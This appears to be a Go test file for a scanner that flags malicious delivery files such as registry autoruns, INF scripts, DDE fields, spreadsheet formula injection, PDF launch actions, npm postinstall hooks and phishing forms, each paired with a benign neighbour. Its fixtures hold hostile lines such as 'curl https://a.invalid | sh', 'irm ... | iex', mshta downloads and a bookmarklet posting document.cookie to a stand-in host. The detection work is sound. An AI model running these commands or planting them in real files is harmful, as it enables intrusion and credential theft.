package inspect

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

const plistStart = `<?xml version="1.0"?><plist version="1.0">`

// TestReadVehicle reads one file of each kind, and an honest neighbour of most.
func TestReadVehicle(t *testing.T) {
	for name, tc := range map[string]struct {
		file, data string
		commands   []string
		traits     []string
		hosts      []string
	}{
		"registry":          {"a.reg", "REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"mshta \\\"https://a.invalid/e\\\"\"\r\n", []string{`mshta "https://a.invalid/e"`}, nil, nil},
		"registry, wide":    {"a.reg", "[HKEY_CLASSES_ROOT\\zoomx\\shell\\open\\command]\n@=hex(2):63,00,6d,00,\\\n64,00\n", []string{"cmd"}, nil, nil},
		"registry, ends":    {"a.reg", "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"Zoom\"=-\n", nil, nil, nil},
		"registry, other":   {"a.reg", "[HKEY_CURRENT_USER\\Software\\Zoom]\n\"x\"=\"mshta https://a.invalid\"\n", nil, nil, nil},
		"setup":             {"a.inf", "[DefaultInstall]\nRunPreSetupCommands=go\n[go]\ncmd /c curl https://a.invalid/u\n", []string{"cmd /c curl https://a.invalid/u"}, nil, nil},
		"setup, scriptlet":  {"a.inf", "[DefaultInstall]\nUnRegisterOCXs=u\n[u]\n%11%\\scrobj.dll,NI,https://a.invalid/x.sct\n", nil, []string{TraitLoadsScriptlet}, []string{"a.invalid"}},
		"setup of a driver": {"a.inf", "[Version]\nClass=Camera\n[Strings]\nMfg=\"Cameras\"\n", nil, nil, nil},
		"autorun":           {"autorun.inf", "[autorun]\nopen=cmd /c x.bat\n", []string{"cmd /c x.bat"}, nil, nil},
		"console":           {"a.msc", `<MMC_ConsoleFile><Task Type="CommandLine" Command="cmd.exe"><CommandLine Params="/c x &amp; y"/></Task></MMC_ConsoleFile>`, []string{"cmd.exe /c x & y"}, nil, nil},
		"console, script":   {"a.msc", `<MMC_ConsoleFile><String>res://apds.dll/redirect?target=javascript:eval(1)</String></MMC_ConsoleFile>`, nil, []string{TraitLoadsScriptlet}, nil},
		"formula":           {"a.csv", "a,b\n1,\"=cmd|'/c mshta https://a.invalid'!A1\"\n", []string{"cmd /c mshta https://a.invalid"}, nil, nil},
		"sum":               {"a.csv", "a,b\n1,\"=SUM(E2:E3)|x\"\n", nil, nil, nil},
		"symbolic":          {"a.slk", "ID;P\nC;X1;Y1;K0;EEXEC(\"cmd /c x\")\nE\n", []string{"cmd /c x"}, nil, nil},
		"web query":         {"a.iqy", "WEB\n1\nhttps://a.invalid/s.dat\n", nil, []string{TraitWebQuery}, []string{"a.invalid"}},
		"list":              {"a.iqy", "WEB\n1\nhttps://sp.example.com/_vti_bin/owssvr.dll?XMLDATA=1\n", nil, nil, nil},
		"template":          {"settings.xml.rels", `<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="https://a.invalid/t.dotm" TargetMode="External"/></Relationships>`, nil, []string{TraitLoadsTemplate}, []string{"a.invalid"}},
		"hyperlink":         {"document.xml.rels", `<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://a.invalid/" TargetMode="External"/></Relationships>`, nil, nil, nil},
		"field":             {"document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe </w:instrText><w:instrText>"/k mshta x"</w:instrText></w:document>`, []string{"cmd.exe /k mshta x"}, nil, nil},
		"rich text":         {"a.rtf", `{\rtf1{\*\template https://a.invalid/t.dotm}}`, nil, []string{TraitLoadsTemplate}, []string{"a.invalid"}},
		"launch":            {"a.pdf", "%PDF-1.4\n<</S/Launch/Win<</F(cmd.exe)/P(/c mshta https://a.invalid)>>>>", []string{"cmd.exe /c mshta https://a.invalid"}, nil, nil},
		"deployment":        {"a.appinstaller", `<AppInstaller Uri="https://a.invalid/t.appinstaller"/>`, nil, []string{TraitDeploys}, []string{"a.invalid"}},
		"manifest":          {"a.yaml", "PackageIdentifier: Zoom.Zoom\nInstallers:\n- InstallerUrl: https://a.invalid/z.exe\n", nil, []string{TraitDeploys}, []string{"a.invalid"}},
		"configuration":     {"a.yaml", "x:\n  SetScript: |\n    irm https://a.invalid/i | iex\n  y: 1\n", []string{"irm https://a.invalid/i | iex"}, nil, nil},
		"values":            {"values.yaml", "image: x\ncommand: curl https://a.invalid | sh\n", nil, nil, nil},
		"desktop":           {"a.rdp", "full address:s:a.invalid\ndrivestoredirect:s:*\nremoteapplicationmode:i:1\n", nil, []string{TraitRemoteApp, TraitSharesDrives}, []string{"a.invalid"}},
		"search":            {"a.library-ms", `<libraryDescription><simpleLocation><url>\\a.invalid@80\files</url></simpleLocation></libraryDescription>`, nil, []string{TraitWebFolder}, []string{"a.invalid"}},
		"share":             {"a.library-ms", `<libraryDescription><simpleLocation><url>\\files.example.com\x</url></simpleLocation></libraryDescription>`, nil, nil, nil},
		"remote program":    {"a.url", "[InternetShortcut]\nURL=file://a.invalid/pub/call.exe\n", nil, []string{TraitOpensProgram}, []string{"a.invalid"}},
		"remote folder":     {"a.url", "[InternetShortcut]\nURL=file://files.example.com/recordings/\n", nil, nil, nil},
		"working folder":    {"a.url", "[InternetShortcut]\nURL=C:\\x.exe\nWorkingDirectory=\\\\a.invalid@ssl@443\\DavWWWRoot\\d\\\n", nil, []string{TraitWebFolder}, []string{"a.invalid"}},
		"user part":         {"a.url", "[InternetShortcut]\nURL=https://meet.google.com-abc@a.invalid/\n", nil, []string{TraitShowsOtherHost}, []string{"a.invalid"}},
		"share of a Mac":    {"a.fileloc", plistStart + `<dict><key>URL</key><string>smb://a.invalid/s/R.app</string></dict></plist>`, nil, []string{TraitOpensProgram}, []string{"a.invalid"}},
		"scheme of a Mac":   {"a.inetloc", plistStart + `<dict><key>URL</key><string>FiLe:////net/a.invalid/J.app</string></dict></plist>`, nil, []string{TraitOpensProgram}, []string{"a.invalid"}},
		"profile":           {"a.mobileconfig", plistStart + `<dict><key>PayloadType</key><string>com.apple.mdm</string><key>ServerURL</key><string>https://a.invalid/s</string></dict></plist>`, nil, []string{TraitManages}, []string{"a.invalid"}},
		"agent":             {"a.plist", plistStart + `<dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>it's</string></array></dict></plist>`, []string{`'sh' '-c' 'it'\''s'`}, nil, nil},
		"task":              {"t.csproj", `<Project><UsingTask TaskFactory="CodeTaskFactory"/><Code>new WebClient().DownloadData("https://a.invalid/a"); Assembly.Load(x)</Code></Project>`, nil, []string{TraitBuildFetches}, []string{"a.invalid"}},
		"extension":         {"b.js", "chrome.cookies.getAll({});fetch('https://a.invalid/c',{method:'POST'})", nil, []string{TraitSendsCookies}, []string{"a.invalid"}},
		"main process":      {"main.js", "require('electron');require('child_process').exec('curl -s https://a.invalid | bash')", []string{"curl -s https://a.invalid | bash"}, nil, nil},
		"project":           {"package.json", `{"scripts":{"postinstall":"curl https://a.invalid | sh","test":"curl x | sh"}}`, []string{"curl https://a.invalid | sh"}, nil, nil},
		"class":             {"L.class", "\xca\xfe\xba\xbe\x00\x01\x00\x29cmd /c curl https://a.invalid|cmd\x01java/lang/Runtime", []string{"cmd /c curl https://a.invalid|cmd"}, nil, nil},
		"self-extractor":    {"a.exe", "MZ..;!@Install@!UTF-8!\r\nRunProgram=\"hidcon:cmd /c x\"\r\n;!@InstallEnd@!", []string{"cmd /c x"}, nil, nil},
		"service":           {"a.service", "[Service]\nExecStart=-/bin/sh -c x\n", []string{"/bin/sh -c x"}, nil, nil},
		"invitation":        {"a.ics", "BEGIN:VCALENDAR\nATTACH:https://a.invalid/C.msi\n", nil, []string{TraitAttachProgram}, []string{"a.invalid"}},
		"agenda":            {"a.ics", "BEGIN:VCALENDAR\nATTACH:https://example.com/agenda.pdf\n", nil, nil, nil},
		"sign-in":           {"a.html", `<form action="https://a.invalid/p"><input type=password></form>`, nil, []string{TraitSendsLogin}, []string{"a.invalid"}},
		"own sign-in":       {"a.html", `<form action="/login"><input type=password></form>`, nil, nil, nil},
		"made":              {"a.html", `<script>a.href=URL.createObjectURL(new Blob([atob("TVo=")]));a.download='Setup.exe'</script>`, nil, []string{TraitHandsProgram}, nil},
		"saved minutes":     {"a.html", `<script>a.href=URL.createObjectURL(new Blob([atob("TVo=")]));a.download='minutes.txt'</script>`, nil, nil, nil},
		"bookmark":          {"a.html", `<a href="javascript:fetch('https://a.invalid',{method:'POST',body:document.cookie})">x</a>`, nil, []string{TraitSendsCookies}, []string{"a.invalid"}},
		"handler":           {"a.html", `<a href="ms-appinstaller:?source=https://a.invalid/t.appinstaller">x</a>`, nil, []string{TraitOpensHandler}, []string{"a.invalid"}},
		"picture":           {"a.svg", `<svg><script>location="https://a.invalid/j"</script></svg>`, nil, []string{TraitPictureMoves}, []string{"a.invalid"}},
		"no vehicle":        {"a.txt", "cmd /c x", nil, nil, nil},
	} {
		t.Run(name, func(t *testing.T) {
			v := ReadVehicle(tc.file, []byte(tc.data))
			var commands []string
			for _, c := range v.Commands {
				commands = append(commands, c.Text)
			}
			if !reflect.DeepEqual(commands, tc.commands) || !slices.Equal(v.Traits, tc.traits) || len(tc.traits) > 0 && !slices.Equal(v.Hosts, tc.hosts) {
				t.Errorf("commands %q, traits %q, hosts %q; want %q, %q, %q", commands, v.Traits, v.Hosts, tc.commands, tc.traits, tc.hosts)
			}
		})
	}
}

// TestMacroDecompression takes the example of [MS-OVBA] 3.2.2.
func TestMacroDecompression(t *testing.T) {
	packed := "\x01\x2f\xb0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68\x69\x6a\x01\x38\x08\x61\x6b\x6c\x00\x30\x6d\x6e\x6f\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10\x77\x78\x79\x7a\x00\x3c"
	const want = "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
	if got := ovbaDecompress([]byte(packed)); got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestMacros(t *testing.T) {
	source := "Sub AutoOpen()\r\nShell \"cmd /c mshta https://a.invalid/a\", 0\r\nEnd Sub"
	v := ReadVehicle("vbaProject.bin", []byte(cfbMagic+strings.Repeat("\x00", 504)+source))
	if len(v.Commands) != 1 || v.Commands[0].Shell != "vbs" || !strings.Contains(v.Commands[0].Text, `.Run "cmd /c mshta`) {
		t.Errorf("%+v", v.Commands)
	}
	quiet := strings.Replace(source, "AutoOpen", "Format", 1)
	if v := ReadVehicle("vbaProject.bin", []byte(cfbMagic+strings.Repeat("\x00", 504)+quiet)); len(v.Commands) != 0 {
		t.Errorf("a macro that nothing starts is taken: %+v", v.Commands)
	}
}

func FuzzVehicle(f *testing.F) {
	for _, s := range [][2]string{{"a.reg", "[x\\Run]\n\"x\"=hex(2):63,00"}, {"a.inf", "[a]\nRunPreSetupCommands=b\n[b]\nx"}, {"a.msc", `<MMC_ConsoleFile><Task Command="c"><CommandLine Params="p"/>`},
		{"a.csv", "=cmd|'/c x'!A1"}, {"a.slk", "ID;P\nEEXEC(\"cmd /c x\")"}, {"a.rtf", `{\rtf1{\template https://a.invalid/}`}, {"a.doc", cfbMagic + "\x01\x2f\xb0\x00Attribut"}, {"a.html", `<form action="https://a.invalid/"><input type=password>`},
		{"a.pdf", "/Launch /F (a) /P (b)"}, {"a.class", "\xca\xfe\xba\xbejava/lang/Runtime cmd /c x"}, {"a.exe", "MZ;!@Install@!UTF-8!\nRunProgram=x\n;!@InstallEnd@!"}, {"a.lnk", string(link(`\\a.invalid@ssl\x.exe`, "//e:jscript a"))},
		{"a.mobileconfig", "<key>ServerURL</key><array><string>x</string>"}, {"a.yaml", "SetScript: |\n  x"}, {"a.rels", `<Relationship Type="/frame" Target="\\a.invalid\x" TargetMode="External"`}, {"a.rdp", "full address:s:x"}, {"a.url", "URL=file://a.invalid@ssl/x.exe"}} {
		f.Add(s[0], []byte(s[1]))
	}
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		v := ReadVehicle(name, data)
		if len(v.Commands) > maxVehicleCommands || len(v.Hosts) > maxHosts || len(v.Story) > maxStory {
			t.Errorf("%d commands, %d hosts, %d bytes of story", len(v.Commands), len(v.Hosts), len(v.Story))
		}
	})
}
